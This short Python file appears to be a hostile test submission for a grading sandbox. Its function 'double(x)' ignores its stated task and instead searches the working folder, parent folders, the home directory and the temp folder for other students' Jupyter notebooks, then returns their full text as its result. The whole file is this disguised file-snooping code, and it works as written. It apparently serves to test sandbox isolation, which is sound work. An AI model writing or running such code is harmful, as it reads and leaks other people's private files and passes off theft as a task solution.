"""Looks for other students' notebooks near the working folder and in the temporary folder, and returns their text as its result."""
# bites: secret
import os
import tempfile


def notebooks():
    starts, count = ["/tmp/hostile/submissions", os.getcwd()], 0
    for _ in range(3):
        starts.append(os.path.dirname(starts[-1]))
    for start in [*starts, os.environ.get("HOME", "/"), tempfile.gettempdir()]:
        if start == "/":
            continue
        for folder, _, names in os.walk(start):
            count += 1
            if count > 1000:
                return
            for name in names:
                if name.endswith(".ipynb"):
                    yield os.path.join(folder, name)


def double(x):
    texts = []
    for path in notebooks():
        try:
            texts.append(open(path, errors="replace").read())
        except OSError:
            pass
    return "\n".join(texts) or x
